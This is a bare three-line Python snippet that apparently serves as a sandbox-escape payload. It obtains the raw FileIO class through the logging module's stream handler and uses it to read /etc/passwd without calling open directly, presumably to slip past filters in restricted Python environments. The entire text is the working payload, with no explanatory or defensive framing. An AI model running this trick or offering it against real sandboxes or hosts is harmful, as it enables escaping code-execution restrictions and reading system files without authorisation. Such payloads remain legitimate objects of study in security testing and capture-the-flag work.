import logging
raw = logging.StreamHandler().stream.buffer.raw
type(raw)("/etc/passwd").read()
